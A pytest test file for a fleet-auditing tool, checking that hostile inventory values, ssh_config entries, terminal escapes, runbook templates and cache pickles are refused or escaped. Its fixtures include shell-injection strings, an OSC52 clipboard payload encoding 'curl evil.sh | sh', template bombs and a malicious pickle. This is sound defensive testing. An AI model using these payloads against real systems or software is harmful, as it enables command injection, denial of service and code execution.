"""Issue 18, the controller: hostile strings defused. Inventory/config values by kind (nothing reaches a
ProxyCommand or Match exec through a re-split), host-provided text inert on the terminal / in Markdown / valid
in JUnit, bounded runbook templates, deep JSON, more secret shapes, the user cache only in this user's
directories — and the tests that bite the planted bugs (`StrictHostKeyChecking no` read as `off`, a bool
pid/epoch taken as an int, a `warn` as a JUnit failure, `|` unescaped in a Markdown cell).

Fast: real files, the real CLI in a subprocess where the CLI is the point, a throwaway sshd for the host key."""
from __future__ import annotations

import io
import json
import os
import pickle
import stat
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from mla_doctor import reports, terminal, user_cache
from mla_doctor.cli.progress import Progress
from mla_doctor.errors import ConfigFileError, HostKeyError, UsageError
from mla_doctor.fleet import inventory, playbook, templating
from mla_doctor.fleet.scheduler import FleetHostReport
from mla_doctor.host.live.session import well_typed
from mla_doctor.redact import REDACTED, redact_text, redact_tree
from mla_doctor.reports.host_text import render as render_host_text
from mla_doctor.results import Finding, HostReport, HostStatus, RunReport, Severity
from mla_doctor.ssh import sshconfig
from mla_doctor.ssh.sshconfig import HostParams, SSHConfigFile, proxy_command_line
from mla_doctor.ssh.transport import ConnectOptions, SSHTransport

from tests.unit.test_controller_safety import _key_line, keys, sshd  # noqa: F401 - fixtures

REPO = Path(__file__).resolve().parents[2]
XSD = REPO / "tests" / "fixtures" / "junit.xsd"

# what a hostile host puts in a log line or in vLLM's METADATA
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the operator's clipboard
CLEAR = "\x1b[2J\x1b[H"  # clears the screen (hides what came before)
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # a hidden link
C1 = "\x9b31m"  # an 8-bit CSI
BIDI = "\u202e"  # right-to-left override: text reads other than it is
HOSTILE = f"boom{OSC52}{CLEAR}{OSC8}{C1}{BIDI}\r\x00end"
RAW = ("\x1b", "\x9b", "\x07", "\x00", "\u202e", "\r")


def _cli(*args, timeout=60, cwd=REPO):
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLA_DOCTOR_")}
    env["PYTHONPATH"] = str(REPO)
    return subprocess.run([sys.executable, "-m", "mla_doctor", *args], capture_output=True, text=True,
                          timeout=timeout, env=env, cwd=cwd)


def _inert(out: str) -> None:
    for ch in RAW:
        assert ch not in out, (ch, out[:400])
    assert "\\x1b" in out  # shown, escaped: the evidence is still readable


# ------------------------------------------------------------------ inventory and config values by kind

@pytest.mark.parametrize("address", ["h;touch /tmp/pwned", "x -oProxyCommand=id", "$(id)", "a b", "-oFoo=1",
                                     "host'quote", "[not-an-ip]", "h\nx"])
def test_inventory_address_that_is_not_a_host_name_or_ip_is_refused_with_file_and_line(tmp_path, address):
    p = tmp_path / "inv.yaml"
    p.write_text("hosts:\n  gpu-1:\n    address: " + json.dumps(address) + "\n")
    with pytest.raises(ConfigFileError, match=rf"^{p}:\d+: host gpu-1: address .*not a host name"):
        inventory.load(str(p))
    ini = tmp_path / "inv.ini"
    ini.write_text("[gpu]\ngpu-1 ansible_host=" + json.dumps(address).replace("\\n", "") + "\n")
    if "\n" not in address:
        with pytest.raises(ConfigFileError, match=rf"^{ini}:\d+: .*address .*not a host name"):
            inventory.load(str(ini))


@pytest.mark.parametrize("address", ["gpu-17", "10.1.230.174", "::1", "[fe80::1]", "2001:db8::2", "node_7.lab.",
                                     "gpu-1.example.com"])
def test_host_names_and_ip_literals_pass(tmp_path, address):
    p = tmp_path / "inv.yaml"
    p.write_text(f"hosts:\n  gpu-1:\n    address: {json.dumps(address)}\n    user: ops\n")
    assert inventory.load(str(p)).hosts["gpu-1"].target == address


def test_inventory_user_and_name_as_target_are_checked(tmp_path):
    p = tmp_path / "inv.yaml"
    p.write_text("hosts:\n  gpu-1:\n    address: 192.0.2.1\n    user: '-oProxyCommand=id'\n")
    with pytest.raises(ConfigFileError, match=rf"^{p}:\d+: .*user .*not a user name"):
        inventory.load(str(p))
    ini = tmp_path / "inv.ini"
    ini.write_text("[gpu]\nbad$(id)\n")
    with pytest.raises(ConfigFileError, match=rf"^{ini}:2: bad host name"):
        inventory.load(str(ini))


def test_ssh_config_lookup_refuses_what_would_reach_percent_h(tmp_path):
    cfg = tmp_path / "ssh_config"
    cfg.write_text("Host evil\n  HostName evil;touch\n  User ops\nHost baduser\n  User $(id)\nHost *\n  Port 22\n")
    conf = SSHConfigFile(str(cfg))
    assert conf.lookup("gpu-1").hostname == "gpu-1"
    with pytest.raises(UsageError, match=r"HostName \(from .*ssh_config\) for evil 'evil;touch': not a host"):
        conf.lookup("evil")
    with pytest.raises(UsageError, match="User .* for baduser .*not a user name"):
        conf.lookup("baduser")
    with pytest.raises(UsageError, match="host 'h;touch /tmp/pwned': not a host name"):
        conf.lookup("h;touch /tmp/pwned")


def test_proxy_command_is_handed_over_as_its_own_words():
    import shlex

    line = proxy_command_line("ssh -W '%h:%p' -o 'ProxyCommand=none' bastion", "gpu-1", 2222)
    assert shlex.split(line) == ["ssh", "-W", "gpu-1:2222", "-o", "ProxyCommand=none", "bastion"]
    with pytest.raises(UsageError, match="not a host name"):
        proxy_command_line("nc %h %p", "x -oProxyCommand=id", 22)


def test_address_with_a_semicolon_runs_nothing_through_a_proxycommand(tmp_path):
    """The attack end to end with the real CLI: an ssh_config whose ProxyCommand runs a shell with %h, and an
    inventory address `h;touch MARKER`. Before: the marker appeared (paramiko pasted %h into `sh -c`)."""
    marker = tmp_path / "pwned"
    cfg = tmp_path / "ssh_config"
    cfg.write_text("Host *\n  ProxyCommand sh -c 'exec nc %h %p'\n")
    inv = tmp_path / "inv.yaml"
    inv.write_text(f"hosts:\n  gpu-1:\n    address: 'h;touch {marker}'\n")
    p = _cli("audit", "-i", str(inv), "--ssh-config", str(cfg), "--format", "json", "--yes")
    assert p.returncode == 2, p.stdout + p.stderr
    assert f"{inv}:3" in p.stderr and "not a host name" in p.stderr
    p = _cli("static", "--host", f"h;touch {marker}", "--ssh-config", str(cfg), "--connect-timeout", "2")
    assert p.returncode == 2 and "not a host name" in p.stderr, p.stdout + p.stderr
    assert not marker.exists()


def test_config_file_values_by_kind_name_the_file_and_line(tmp_path):
    cfg = tmp_path / "c.yaml"
    cfg.write_text("user: ops\nstatic:\n  connect-timeout: 5\n  port: notaport\n")
    p = _cli("--config", str(cfg), "static", "--host", "h")
    assert p.returncode == 2 and f"{cfg}:4: port:" in p.stderr, p.stderr
    cfg.write_text("user: ops\nhost: 'h;touch /tmp/pwned'\n")
    p = _cli("--config", str(cfg), "static")
    assert p.returncode == 2 and f"{cfg}:2: host:" in p.stderr and "not a host name" in p.stderr, p.stderr


# ------------------------------------------------------------------------- deep JSON and YAML

def test_deep_saved_report_is_a_usage_error_naming_the_file(tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000)
    nested = tmp_path / "nested.json"
    nested.write_text('{"tool": "mla-doctor", "hosts": [{"host": "a", "x": ' + "[" * 900 + "]" * 900 + "}]}")
    for f in (deep, nested):
        with pytest.raises(UsageError, match=f"^{f}: not an mla-doctor report: JSON nested"):
            reports.load_report(str(f))
    p = _cli("report", "render", str(deep), "--format", "text")
    assert p.returncode == 2 and str(deep) in p.stderr and "Traceback" not in p.stderr, p.stderr
    p = _cli("report", "merge", str(nested), str(nested))
    assert p.returncode == 2 and str(nested) in p.stderr, p.stderr
    assert reports.json_depth({"a": [[1], {"b": []}]}, 100) == 4 and reports.json_depth("x", 9) == 0


def test_deep_config_file_is_a_usage_error_naming_the_file(tmp_path):
    cfg = tmp_path / "c.yaml"
    cfg.write_text("user: " + "[" * 100_000 + "]" * 100_000 + "\n")
    p = _cli("--config", str(cfg), "playbooks")
    assert p.returncode == 2 and f"{cfg}:1: nested deeper than" in p.stderr, p.stderr


# ------------------------------------------------------------------------- terminal and writers

def test_terminal_helpers_escape_every_control():
    assert terminal.line(HOSTILE) == ("boom\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x1b[H\\x1b]8;;https://"
                                      "evil.example/\\x1b\\click\\x1b]8;;\\x1b\\\\x9b31m\\u202e\\x0d\\x00end")
    assert terminal.text("a\n\tb\x1b") == "a\n\tb\\x1b" and terminal.line("a\nb") == "a\\x0ab"
    assert terminal.line("plain – ünïcode ✓") == "plain – ünïcode ✓"
    assert terminal.xml("a\ud800b\ufffe") == "a\\ud800b\\ufffe"


def _hostile_host(cls=FleetHostReport):
    h = cls(host="gpu-1")
    h.vllm = {"version": f"0.33.0{OSC52}", "distribution": f"vllm{CLEAR}", "path": "/x/vllm"}
    h.static = {"prefill_entry": {"symbol": f"Impl.forward_mha{OSC8}", "file": "f.py", "line": 1},
                "decode_entry": {"symbol": "Impl.forward_mqa", "file": "g.py", "line": 2},
                "modified_files": [f"vllm/{C1}x.py"], "sparse_gate": {"present": False}}
    h.log = {"source": "file", "evidence": {"decode_backend": f"FLASH|MLA{HOSTILE}"},
             "lines": [{"n": 1, "text": f"INFO {HOSTILE}"}]}
    h.findings = [Finding("VLLM_FILES_MODIFIED", Severity.FAIL, f"modified {HOSTILE}", [f"evidence {OSC52}"]),
                  Finding("CUDA_GRAPHS_HIDE_DECODE", Severity.WARN, f"warned {CLEAR}", [f"ev {OSC8}"])]
    return h


def _hostile_doc():
    err = FleetHostReport(host="gone", status=HostStatus.UNREACHABLE, error_kind="UnreachableError",
                          error=f"no route {HOSTILE}")
    return reports.fleet_document([_hostile_host(), err], {"inventory": "i.yaml", "playbook": f"static{OSC52}"},
                                  0.0, 1.0)


def test_first_screen_and_details_show_host_strings_escaped():
    report = RunReport(command="static", hosts=[_hostile_host(HostReport)])
    for verbose in (0, 2):
        _inert(render_host_text(report, verbose=verbose, width=100))
    coloured = render_host_text(report, verbose=0, width=100, color=True)
    assert "\x1b]52" not in coloured and "\x1b]8;" not in coloured and "\x1b[2J" not in coloured
    err = HostReport(host="gpu-2", status=HostStatus.ERROR, error_kind="RemoteError", error=f"agent said {HOSTILE}")
    _inert(render_host_text(RunReport(command="static", hosts=[err]), width=100))


def test_a_multi_line_error_on_the_first_screen_reads_as_lines_its_controls_still_escaped():
    """Issue 32: gdb's error (several lines) was shown as one line with `\\x0a` escapes; only a newline becomes a
    line break, under the error's label, wrapped or piped; a CR, a tab and ESC stay escaped."""
    gdb = ("attach: gdb /usr/local/bin/gdb could not call into pid 4242:\n"
           "Couldn't write extended state status: Bad address.\n"
           f"The program being debugged was signaled {HOSTILE}\tx\n")
    err = HostReport(host="gpu-2", status=HostStatus.ERROR, error_kind="RemoteError", error=gdb)
    for width in (80, 0):  # a terminal, piped
        out = render_host_text(RunReport(command="run", hosts=[err]), width=width)
        _inert(out)
        assert "\\x0a" not in out, out
        lines = out.splitlines()
        i = next(n for n, ln in enumerate(lines) if "could not call into pid 4242:" in ln)
        assert lines[i].lstrip().startswith("error") and lines[i].rstrip().endswith("pid 4242:"), lines[i]
        assert lines[i + 1].strip() == "Couldn't write extended state status: Bad address.", lines[i:i + 3]
        assert lines[i + 2].startswith(" " * 8) and "The program being debugged" in lines[i + 2]  # under the text
        assert "\\x09x" in out and "\\x0d" in out


@pytest.mark.parametrize("fmt", ["text", "markdown", "junit", "html"])
def test_fleet_writers_show_host_strings_escaped(fmt):
    out = reports.render(_hostile_doc(), fmt)
    _inert(out)


def test_junit_with_hostile_strings_stays_valid_xml_against_the_xsd():
    import xmlschema

    out = reports.render(_hostile_doc(), "junit")
    ET.fromstring(out)
    xmlschema.XMLSchema(str(XSD)).validate(out)
    doc = _hostile_doc()
    host = next(h for h in doc["hosts"] if h["host"] == "gpu-1")
    host["findings"][0]["summary"] = "lone surrogate \ud800 and \ufffe"
    out = reports.render(doc, "junit")
    out.encode("utf-8")  # a lone surrogate would make the file unwritable
    xmlschema.XMLSchema(str(XSD)).validate(out)


def test_junit_reports_a_warning_as_a_passing_case_not_a_failure():
    """Planted bug: `severity in ("fail", "warn")` -> CI red on a warning."""
    h = _hostile_host()
    h.findings = [Finding("CUDA_GRAPHS_HIDE_DECODE", Severity.WARN, "decode hidden by CUDA graphs")]
    out = reports.render(reports.fleet_document([h], {"playbook": "static"}, 0.0, 1.0), "junit")
    root = ET.fromstring(out)
    case = next(c for c in root.iter("testcase") if c.get("name") == "CUDA_GRAPHS_HIDE_DECODE")
    assert case.find("failure") is None and case.find("error") is None
    assert "[warn] decode hidden" in case.find("system-out").text
    assert root.get("failures") == "0" and root.get("errors") == "0"


def test_markdown_escapes_the_pipe_in_every_table_cell():
    """Planted bug: `|` left out of the escaped characters -> a host string adds table columns."""
    md = reports.render(_hostile_doc(), "markdown")
    row = next(ln for ln in md.splitlines() if ln.startswith("| gpu-1 |"))
    unescaped = [i for i, ch in enumerate(row) if ch == "|" and (i == 0 or row[i - 1] != "\\")]
    assert len(unescaped) == 10, row  # 9 columns
    assert "FLASH\\|MLA" in md
    backends = md.split("## Backends")[1].split("##")[0]
    assert "| FLASH\\|MLA" in backends


def test_progress_lines_and_live_table_show_host_strings_escaped():
    buf = io.StringIO()
    p = Progress(1, "plain", stream=buf)
    p.started(f"gpu-1{OSC52}")
    p.step(f"gpu-1{OSC52}", f"step {HOSTILE}")
    _inert(buf.getvalue())
    from rich.console import Console

    live = Progress(1, "quiet")
    live.running = {f"gpu-1{OSC52}": f"[link=https://evil.example/]click[/link] {HOSTILE}"}
    out = io.StringIO()
    Console(file=out, force_terminal=True, width=200).print(live._render())
    text = out.getvalue()
    assert "\x1b]52" not in text and "\x1b]8;" not in text and "\x1b[2J" not in text and "[link=" in text


def test_dry_run_plan_shows_inventory_values_escaped(tmp_path):
    inv = tmp_path / "inv.yaml"
    inv.write_text('hosts:\n  gpu-1:\n    address: 192.0.2.1\n    python: "/opt/v\\e]52;c;eA==\\a/bin/python"\n')
    p = _cli("audit", "-i", str(inv), "--dry-run")
    assert p.returncode == 0, p.stderr
    assert "\x1b" not in p.stdout and "\x07" not in p.stdout and "\\x1b]52;c;eA==\\x07" in p.stdout


def test_cli_error_message_with_host_text_is_inert(tmp_path):
    bad = tmp_path / "r.json"
    bad.write_text(json.dumps({"tool": "mla-doctor", "hosts": [{"host": f"h{OSC52}", "exit_status": "x"}]}))
    p = _cli("report", "render", str(bad))
    assert p.returncode == 2 and "\x1b" not in p.stderr and "\\x1b]52" in p.stderr, p.stderr


# ------------------------------------------------------------------------------------ templates

def _plan(tmp_path, expr: str):
    inv = tmp_path / "inv.yaml"
    inv.write_text("hosts:\n  gpu-1:\n    address: 127.0.0.1\n")
    pb = tmp_path / "pb.yaml"
    pb.write_text(f"steps:\n  - audit: {{model: {json.dumps(expr)}}}\n")
    host = inventory.load(str(inv)).hosts["gpu-1"]
    return pb, lambda: playbook.plan(playbook.load(str(pb)), host)


@pytest.mark.parametrize("expr", [
    "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
    "{% for a in range(100000) %}{% for b in range(1000) %}{% endfor %}{% endfor %}",  # no output: time only
    "{% set ns = namespace(x='ab') %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x }}",
    "{{ ('a' * 1000000) | replace('a', 'a' * 1000000) }}",
    "{{ '' | center(1000000000) }}", "{{ 'a'.ljust(1000000000) }}", "{{ '%01000000000d' % 1 }}",
    "{{ '{:>1000000000}'.format(1) }}", "{{ ((9 ** 1024) ** 1024) ** 1024 }}",
    "{% set x = 10 ** 1000 %}{% set x = x * x %}{% set x = x * x %}{% set x = x * x %}{{ x * x * x * x * x }}",
    "{% set l = [] %}{% for i in range(1000) %}{{ l.extend([1] * 1000000) }}{% endfor %}",
    "{% set a = 'a' * 1000000 %}{{ a }}{{ a }}", "{{ range(100000) | join('x' * 100) }}",
])
def test_template_bombs_fail_fast_with_file_and_line(tmp_path, expr):
    pb, plan = _plan(tmp_path, expr)
    t0 = time.monotonic()
    with pytest.raises(ConfigFileError, match=rf"^{pb}:2: .*template error: unsafe template refused"):
        plan()
    assert time.monotonic() - t0 < 5


@pytest.mark.parametrize("expr,why", [
    ("{% for a in [1] %}{% for b in [1] %}{% for c in [1] %}x{% endfor %}{% endfor %}{% endfor %}",
     "loops nested deeper than 2"),
    ("{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}", "macro blocks are not allowed"),
    ("{% for x in [1] recursive %}{{ loop([x]) }}{% endfor %}", "recursive loops are not allowed"),
])
def test_template_nesting_is_refused_when_the_runbook_is_loaded(tmp_path, expr, why):
    pb, _ = _plan(tmp_path, expr)
    with pytest.raises(ConfigFileError, match=rf"^{pb}:2: .*{why}"):
        playbook.load(str(pb))


def test_bounded_templates_still_render_what_runbooks_write():
    env = templating.environment(native=True)
    assert env.from_string("{{ n * 2 }}").render(n=3) == 6
    assert env.from_string("{% for a in [1, 2] %}{% for b in [3] %}{{ a * b }}x{% endfor %}{% endfor %}").render() \
        == "3x6x"
    assert env.from_string("{{ 'x' ~ n }}-{{ [1, 2] | join('+') }}-{{ 'a-b' | replace('-', '_') }}").render(n=1) \
        == "x1-1+2-a_b"
    assert env.from_string("{{ '%s:%d' % ('h', 8000) }} {{ '{}/{}'.format('a', 'b') }}").render() == "h:8000 a/b"
    assert env.from_string("{{ 2 ** 64 }}").render() == 2 ** 64


# ------------------------------------------------------------------------------------ redaction

def test_nul_separated_environment_is_redacted_entry_by_entry():
    environ = "HOME=/root\0VLLM_KEY=s3cr3t-value\0PWD=/srv\0db_pass=hunter2\0X=1\0"
    out = redact_text(environ)
    assert "s3cr3t-value" not in out and "hunter2" not in out
    assert out == f"HOME=/root\0VLLM_KEY={REDACTED}\0PWD=/srv\0db_pass={REDACTED}\0X=1\0"
    # as a .pth's "contents" in a report
    assert "s3cr3t-value" not in json.dumps(redact_tree({"pth": [{"path": "/x.pth", "text": environ}]}))


@pytest.mark.parametrize("secret", [
    "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789", "sk-abcdefghijklmnopqrstuvwxyzABCD",
    "hf_abcdefghijklmnopqrstuvwxyz012345", "ghp_" + "a1B2" * 9, "github_pat_" + "x1_" * 12,
    "xoxb-1234567890-abcdefghij", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpM",
    "AKIAIOSFODNN7EXAMPLE",
])
def test_keys_in_free_text_are_redacted_by_their_shape(secret):
    for text in (f"loading with {secret} now", f"key={secret}", f'"{secret}"'):
        assert secret not in redact_text(text), text


def test_secret_names_and_headers():
    out = redact_text("DB_PASS=a MYSQL_PWD=b PASS=c PWD=/home/x OLDPWD=/ Authorization: Bearer abcdefghijklmnop "
                      "curl -H 'authorization: token zzzzzzzz'")
    assert "=a " not in out and "=b " not in out and "=c " not in out and "abcdefghijklmnop" not in out
    assert "zzzzzzzz" not in out and "PWD=/home/x" in out and "OLDPWD=/" in out
    # evidence stays: token counts, tokenizer paths, ordinary words
    for keep in ("--max-num-batched-tokens 8192", "--tokenizer /m/tok", "task-sk-learn", "Bearer tokens are used",
                 "basic configuration"):
        assert redact_text(keep) == keep


# ------------------------------------------------------------------------------------ user cache

def _st(uid: int, mode: int) -> os.stat_result:
    return os.stat_result((stat.S_IFDIR | mode, 0, 0, 0, uid, 0, 0, 0, 0, 0))


def test_cache_directory_rules_on_the_owner_and_mode():
    me = os.geteuid()
    other = me + 1000
    assert user_cache._safe_above(_st(me, 0o755)) and user_cache._safe_above(_st(0, 0o755))
    assert user_cache._safe_above(_st(0, 0o1777))  # /tmp
    assert not user_cache._safe_above(_st(other, 0o1777))  # another user's sticky directory
    assert not user_cache._safe_above(_st(other, 0o755)) and not user_cache._safe_above(_st(me, 0o777))
    assert user_cache._safe_cache(_st(me, 0o700)) and not user_cache._safe_cache(_st(me, 0o770))
    assert not user_cache._safe_cache(_st(other, 0o700))


def _planted(tmp_path, cache: Path) -> Path:
    """A pickle in `cache` that, unpickled, creates a marker file (what an attacker plants)."""
    marker = tmp_path / "unpickled"
    cache.mkdir(mode=0o700, parents=True, exist_ok=True)
    os.chmod(cache, 0o700)

    class Evil:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    (cache / "k.pickle").write_bytes(pickle.dumps(Evil()))
    return marker


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a directory of another user (chown)")
def test_cache_under_a_sticky_directory_of_another_user_is_never_read(tmp_path, monkeypatch):
    sticky = tmp_path / "theirs"
    sticky.mkdir()
    os.chmod(sticky, 0o1777)
    os.chown(sticky, 65534, 65534)  # nobody's, like a /tmp/x another user made
    cache = sticky / "cache"
    marker = _planted(tmp_path, cache)
    monkeypatch.setenv("MLA_DOCTOR_T_CACHE", str(cache))
    assert user_cache.directory("t", "MLA_DOCTOR_T_CACHE") is None
    assert user_cache.pickled("t", "MLA_DOCTOR_T_CACHE", "k", lambda: "built") == "built"
    assert not marker.exists()
    os.chown(sticky, 0, 0)  # root's sticky directory (/tmp): ours inside it is used
    assert user_cache.directory("t", "MLA_DOCTOR_T_CACHE") == cache


def test_cache_entry_that_is_a_symlink_or_not_ours_is_not_read(tmp_path, monkeypatch):
    cache = tmp_path / "c"
    marker = _planted(tmp_path, tmp_path / "elsewhere")
    cache.mkdir(mode=0o700)
    os.symlink(tmp_path / "elsewhere" / "k.pickle", cache / "k.pickle")
    monkeypatch.setenv("MLA_DOCTOR_T_CACHE", str(cache))
    assert user_cache.read_bytes(cache / "k.pickle") is None
    assert user_cache.pickled("t", "MLA_DOCTOR_T_CACHE", "k", lambda: "built") == "built"
    assert not marker.exists()
    # a cache directory reached through a symlink is not used either (walked with O_NOFOLLOW)
    link = tmp_path / "link"
    os.symlink(cache, link)
    assert not user_cache.private(link) and user_cache.private(cache)
    # written and read back through the descriptor: the ordinary case still works
    user_cache.write_atomic(cache / "x.bin", b"data")
    assert user_cache.read_bytes(cache / "x.bin") == b"data"
    os.chmod(cache / "x.bin", 0o666)  # writable by others: not believed
    assert user_cache.read_bytes(cache / "x.bin") is None


# ------------------------------------------------------------------------------- tests that bite

@pytest.mark.parametrize("value", ["no", "No", "off", "false", "ask", "accept-new", "yes", None])
def test_strict_host_key_checking_from_ssh_config_never_means_off(value):
    """Planted bug: `StrictHostKeyChecking no` read as policy `off` (a changed host key accepted)."""
    tr = SSHTransport.__new__(SSHTransport)
    tr.options = ConnectOptions()
    policy = tr._policy(HostParams(alias="h", hostname="h", strict_host_key_checking=value))
    assert policy == ("strict" if value == "yes" else "accept-new")


def test_changed_host_key_is_refused_when_ssh_config_says_strict_no(sshd, tmp_path, keys):  # noqa: F811
    port, _host_key = sshd
    kh = tmp_path / "known_hosts"
    kh.write_text(f"[127.0.0.1]:{port} {_key_line(keys['ed'])}\n")  # another key than the server's: changed
    cfg = tmp_path / "ssh_config"
    cfg.write_text(f"Host *\n  StrictHostKeyChecking no\n  UserKnownHostsFile {kh}\n")
    with pytest.raises(HostKeyError, match="HOST KEY CHANGED"):
        SSHTransport("127.0.0.1", ConnectOptions(port=port, identity=("/nonexistent",), connect_timeout=30,
                                                 ssh_config=str(cfg)))


@pytest.mark.parametrize("rec,ok", [
    ({"event": "call", "pid": 12, "epoch": 1}, True),
    ({"event": "armed", "pid": 12}, True),
    ({"event": "call", "pid": True, "epoch": 1}, False),
    ({"event": "call", "pid": 12, "epoch": False}, False),
    ({"event": "counters", "pid": "12", "epoch": 1}, False),
    ({"event": "call", "pid": 1.5, "epoch": 1}, False),
    ({"event": "other", "pid": 1, "epoch": 1}, False),
    ([1], False),
])
def test_live_record_check_takes_no_bool_for_pid_or_epoch(rec, ok):
    """Planted bug: `isinstance(True, int)` is True — a record with pid=True passed as the server's."""
    assert well_typed(rec) is ok


def test_sshconfig_reexports_the_validators():
    assert sshconfig.host_problem("gpu-1") is None and sshconfig.user_problem("ops") is None
